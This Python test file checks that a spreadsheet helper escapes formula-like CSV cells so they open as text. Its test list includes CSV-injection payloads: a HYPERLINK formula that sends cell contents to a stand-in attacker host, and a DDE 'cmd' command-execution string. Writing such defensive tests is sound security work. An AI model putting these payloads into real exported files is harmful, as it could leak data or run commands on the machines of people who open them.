"""CSV cells never open as spreadsheet formulas."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from carepost.core.spreadsheet import cell, row


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
    "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "=", "-", "@dr_smith thanks",
])
def test_formula_like_cells_become_text(value: str) -> None:
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "hello", "3", "-3", "-0.5", "12.75", "a=b", " =1", None, 7,
                                   -2.5])
def test_harmless_cells_and_numbers_are_unchanged(value: object) -> None:
    assert cell(value) == value


@given(st.lists(st.one_of(st.text(), st.integers(), st.none()), max_size=8))
def test_no_written_cell_starts_a_formula_and_text_survives(values: list[object]) -> None:
    out = io.StringIO()
    csv.writer(out).writerow(row(values))
    back = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    for original, written in zip(values, back, strict=True):
        if isinstance(original, str) and written[:1] in ("=", "+", "@", "\t", "\r"):
            pytest.fail(f"formula start kept: {written!r}")
        if isinstance(original, str) and written.startswith("'") and not original.startswith("'"):
            assert written[1:] == original  # only the apostrophe was added
